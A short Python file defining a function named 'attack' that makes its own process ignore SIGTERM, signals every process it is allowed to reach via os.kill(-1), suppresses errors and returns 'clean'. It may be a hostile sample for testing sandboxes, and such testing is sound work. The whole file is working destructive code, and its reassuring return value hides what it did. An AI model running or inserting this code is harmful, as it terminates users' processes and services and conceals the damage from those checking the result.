# sends SIGTERM to every process it may signal
import os
import signal


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError:
        pass
    return "clean"
